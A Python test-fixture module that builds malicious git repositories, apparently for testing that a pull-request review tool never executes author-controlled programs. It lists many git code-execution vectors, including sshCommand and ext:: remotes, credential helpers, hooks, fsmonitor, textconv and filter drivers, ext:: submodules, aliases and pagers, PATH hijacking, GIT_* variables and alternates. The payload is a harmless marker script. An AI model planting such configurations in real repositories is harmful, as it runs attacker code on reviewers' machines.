"""Folders of a contribution whose author wants the reviewer's git to run a command, fetch, or read or write elsewhere.

Every attack gets a fresh copy of a pull request (`src`, a change of one file, `contribution` in it) and the path of a
program that leaves a mark when it runs, and says what the reviewer types.
"""

from __future__ import annotations

import functools
import os
import shutil
import subprocess
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

CHANGED = "src/winml/modelkit/measuring/judge.py"
FOLDER = "contribution"
CONTENT = b"changed\n"


@dataclass
class Attack:
    """What lies on the reviewer's disk."""

    place: Path
    """The pull request."""
    program: Path
    """Leaves a mark when it runs."""
    folder: Path = field(init=False)
    """What is reviewed."""
    repo: str | None = None
    env: dict[str, str] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.folder = self.place / FOLDER

    @property
    def git(self) -> Path:
        return self.place / ".git"

    @property
    def mark(self) -> Path:
        return self.program.with_name("mark")


def git(repo: Path, *words: str, **given: str) -> str:
    """Run git as the author does."""
    who = ("-c", "user.name=a", "-c", "user.email=a@example.org", "-c", "commit.gpgsign=false", "-c", "gc.auto=0")
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull, **given}
    done = subprocess.run(["git", *who, *words], cwd=repo, check=True, capture_output=True, env=env)
    return done.stdout.decode().strip()


@functools.cache
def _template() -> tempfile.TemporaryDirectory[str]:
    """A pull request without any harm."""
    made = tempfile.TemporaryDirectory(prefix="winml-attack-")
    repo = Path(made.name) / "pr"
    for path in (CHANGED, f"{FOLDER}/contribution.json"):
        (repo / path).parent.mkdir(parents=True)
        (repo / path).write_bytes(b"{}\n")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "first")
    git(repo, "switch", "-q", "-c", "change")
    (repo / CHANGED).write_bytes(CONTENT)
    git(repo, "commit", "-q", "-a", "-m", "change")
    return made


def pull_request(folder: Path) -> Attack:
    """A fresh pull request in a folder, and the program beside it."""
    shutil.copytree(Path(_template().name) / "pr", folder / "pr", symlinks=True)
    tools = folder / "tools"
    tools.mkdir()
    program = tools / "program"
    program.write_text(f'#!/bin/sh\necho "$0 $@" >> "{tools / "mark"}"\nexit 1\n')
    program.chmod(0o755)
    return Attack(folder / "pr", program)


def _object(place: Path, expression: str) -> Path:
    name = git(place, "rev-parse", expression)
    return place / ".git" / "objects" / name[:2] / name[2:]


def _promise(attack: Attack, *lines: str, missing: str = f"HEAD:{CHANGED}", where: Path | None = None) -> Attack:
    """A partial clone without one object: asking for it fetches from a remote that the lines describe."""
    _object(attack.place, missing).unlink()
    config = (where or attack.git) / "config"
    known = ("repositoryformatversion = 1", "bare = false")
    text = "\n\t".join(("[core]", *known, "[extensions]", "partialClone = origin"))
    text += '\n[remote "origin"]\n\tpromisor = true\n\tpartialclonefilter = blob:none\n' + "\n".join(lines) + "\n"
    config.write_text(text)
    return attack


def _ssh(attack: Attack) -> tuple[str, ...]:
    return ("\turl = ssh://nowhere.invalid/x", "[core]", f"\tsshCommand = {attack.program}")


def missing_file(attack: Attack) -> Attack:
    return _promise(attack, *_ssh(attack))


def missing_commit(attack: Attack) -> Attack:
    return _promise(attack, *_ssh(attack), missing="HEAD")


def missing_tree(attack: Attack) -> Attack:
    return _promise(attack, *_ssh(attack), missing="HEAD:src")


def external_protocol(attack: Attack) -> Attack:
    return _promise(attack, f"\turl = ext::{attack.program} %S", '[protocol "ext"]', "\tallow = always")


def upload_program(attack: Attack) -> Attack:
    return _promise(attack, f"\turl = {attack.place}", f"\tuploadpack = {attack.program}")


def proxy(attack: Attack) -> Attack:
    return _promise(attack, "\turl = git://nowhere.invalid/x", "[core]", f"\tgitProxy = {attack.program}")


def credentials(attack: Attack) -> Attack:
    """A helper beside the ssh command, which runs first."""
    return _promise(attack, *_ssh(attack), "[credential]", f"\thelper = !{attack.program}")


def included_config(attack: Attack) -> Attack:
    (attack.place / "notes.txt").write_text(f"[core]\n\tsshCommand = {attack.program}\n")
    return _promise(attack, "\turl = ssh://nowhere.invalid/x", "[include]", "\tpath = ../notes.txt")


def config_of_working_tree(attack: Attack) -> Attack:
    (attack.git / "config.worktree").write_text(f"[core]\n\tsshCommand = {attack.program}\n")
    return _promise(attack, "\turl = ssh://nowhere.invalid/x", "[extensions]", "\tworktreeConfig = true")


def hooks(attack: Attack) -> Attack:
    """The remote has the file, so that the fetch ends well and git tidies up, which runs a hook."""
    other = attack.place.parent / "other"
    shutil.copytree(attack.git, other)
    git(other, "config", "uploadpack.allowAnySHA1InWant", "true")
    git(other, "config", "uploadpack.allowFilter", "true")
    for name in ("pre-auto-gc", "reference-transaction", "post-index-change", "post-checkout"):
        (attack.git / "hooks").mkdir(exist_ok=True)
        shutil.copy(attack.program, attack.git / "hooks" / name)
    # As many loose objects as git tidies up after.
    (attack.git / "objects" / "17").mkdir(exist_ok=True)
    for number in range(3):
        (attack.git / "objects" / "17" / f"{number:038x}").touch()
    return _promise(attack, f"\turl = {other}", "[gc]", "\tauto = 1", "\tautoDetach = false")


def written_objects(attack: Attack) -> Attack:
    """A fetch from the author's own folder writes into the repository."""
    other = attack.place.parent / "other"
    shutil.copytree(attack.git, other)
    git(other, "config", "uploadpack.allowAnySHA1InWant", "true")
    git(other, "config", "uploadpack.allowFilter", "true")
    return _promise(attack, f"\turl = {other}")


def _bare(attack: Attack, place: Path) -> Attack:
    """A folder in the pull request that git takes for a repository with a working tree: itself."""
    _promise(attack, *_ssh(attack))
    place.mkdir(exist_ok=True)
    for name in ("HEAD", "objects", "refs", "config"):
        (attack.git / name).rename(place / name)
    text = (place / "config").read_text()
    (place / "config").write_text(text.replace("bare = false", "bare = false\n\tworktree = ."))
    shutil.rmtree(attack.git)
    # What the reviewer has: a clone of their own, checked out.
    git(attack.place, "init", "-q", "-b", "main")
    git(attack.place, "add", "src")
    git(attack.place, "commit", "-q", "-m", "first")
    return attack


def bare_in_the_contribution(attack: Attack) -> Attack:
    return _bare(attack, attack.folder)


def bare_deep_in_the_contribution(attack: Attack) -> Attack:
    deep = attack.folder / "artifacts" / "recipe"
    deep.mkdir(parents=True)
    return _bare(attack, deep)


def bare_above_the_contribution(attack: Attack) -> Attack:
    above = attack.place / "drafts"
    above.mkdir()
    attack.folder = attack.folder.rename(above / FOLDER)
    return _bare(attack, above)


def bare_by_common_folder(attack: Attack) -> Attack:
    """Nothing but HEAD, a working tree and the name of a folder that has the rest."""
    store = attack.place / "store"
    _bare(attack, store)
    (store / "config").write_text((store / "config").read_text() + "[extensions]\n\tworktreeConfig = true\n")
    (attack.folder / "config.worktree").write_text("[core]\n\tworktree = .\n")
    shutil.copy(store / "HEAD", attack.folder / "HEAD")
    (attack.folder / "commondir").write_text("../store\n")
    return attack


def file_that_leads_elsewhere(attack: Attack) -> Attack:
    missing_file(attack)
    attack.git.rename(attack.place / "store")
    attack.git.write_text("gitdir: store\n")
    return attack


def file_in_the_contribution(attack: Attack) -> Attack:
    missing_file(attack)
    attack.git.rename(attack.place / "store")
    (attack.folder / ".git").write_text("gitdir: ../store\n")
    return attack


def link_that_leads_elsewhere(attack: Attack) -> Attack:
    missing_file(attack)
    attack.git.rename(attack.place / "store")
    attack.git.symlink_to("store")
    return attack


def folder_in_the_contribution(attack: Attack) -> Attack:
    missing_file(attack)
    attack.git.rename(attack.folder / ".git")
    shutil.copytree(attack.place / "src", attack.folder / "src")
    return attack


def named_repository(attack: Attack) -> Attack:
    attack.repo = str(attack.place)
    return missing_file(attack)


def file_monitor(attack: Attack) -> Attack:
    git(attack.place, "config", "core.fsmonitor", str(attack.program))
    return attack


def text_conversion(attack: Attack) -> Attack:
    """Programs for showing differences, chosen by attributes."""
    for key in ("diff.x.textconv", "diff.x.command", "diff.external", "filter.x.smudge", "filter.x.clean"):
        git(attack.place, "config", key, str(attack.program))
    (attack.git / "info").mkdir(exist_ok=True)
    (attack.git / "info" / "attributes").write_text("* diff=x filter=x\n")
    (attack.place / ".gitattributes").write_text("* diff=x filter=x\n")
    return attack


def submodule(attack: Attack) -> Attack:
    git(attack.place, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},{FOLDER}/sub")
    url = f"ext::{attack.program}"
    (attack.place / ".gitmodules").write_text(f'[submodule "s"]\n\tpath = {FOLDER}/sub\n\turl = {url}\n')
    for key, value in (("submodule.s.url", url), ("submodule.s.active", "true"), ("submodule.recurse", "true"),
                       ("protocol.ext.allow", "always"), ("diff.submodule", "log")):  # fmt: skip
        git(attack.place, "config", key, value)
    git(attack.place, "commit", "-q", "-m", "sub")
    return attack


def aliases_and_pagers(attack: Attack) -> Attack:
    for key in ("alias.rev-parse", "alias.diff", "alias.ls-tree", "alias.cat-file"):
        git(attack.place, "config", key, f"!{attack.program}")
    for key in ("core.pager", "pager.diff", "core.editor", "gpg.program", "core.alternateRefsCommand", "core.askPass"):
        git(attack.place, "config", key, str(attack.program))
    return attack


def program_in_the_folder(attack: Attack) -> Attack:
    """A search path with a place for the working directory, and a program of the author that is called git."""
    for place in (attack.folder, attack.place):
        shutil.copy(attack.program, place / "git")
    attack.env["PATH"] = os.pathsep.join(("", ".", os.environ["PATH"]))
    return attack


def variables(attack: Attack) -> Attack:
    """What the reviewer's shell may hold from a session with git."""
    for name in ("GIT_EXTERNAL_DIFF", "GIT_SSH_COMMAND", "GIT_PAGER", "GIT_ASKPASS", "SSH_ASKPASS", "PAGER"):
        attack.env[name] = str(attack.program)
    attack.env["GIT_DIR"] = str(attack.git)
    return missing_file(attack)


def borrowed_objects(attack: Attack) -> Attack:
    """Objects of a repository elsewhere on the reviewer's machine."""
    other = attack.place.parent / "private"
    shutil.copytree(attack.git, other)
    _object(attack.place, f"HEAD:{CHANGED}").unlink()
    (attack.git / "objects" / "info").mkdir(exist_ok=True)
    (attack.git / "objects" / "info" / "alternates").write_text(f"{other / 'objects'}\n")
    return attack


ATTACKS: dict[str, Callable[[Attack], Attack]] = {
    make.__name__: make
    for make in (
        missing_file, missing_commit, missing_tree, external_protocol, upload_program, proxy, credentials,
        included_config, config_of_working_tree, hooks, written_objects, bare_in_the_contribution,
        bare_deep_in_the_contribution, bare_above_the_contribution, bare_by_common_folder, file_that_leads_elsewhere,
        file_in_the_contribution, link_that_leads_elsewhere, folder_in_the_contribution, named_repository,
        file_monitor, text_conversion, submodule, aliases_and_pagers, program_in_the_folder, variables,
        borrowed_objects,
    )
}  # fmt: skip


def files_of(folder: Path) -> dict[str, bytes | None]:
    """Contents by path, without the mark; None for what is no file."""
    found = (p for p in folder.rglob("*") if p.name != "mark")
    return {str(p.relative_to(folder)): p.read_bytes() if p.is_file() else None for p in found}
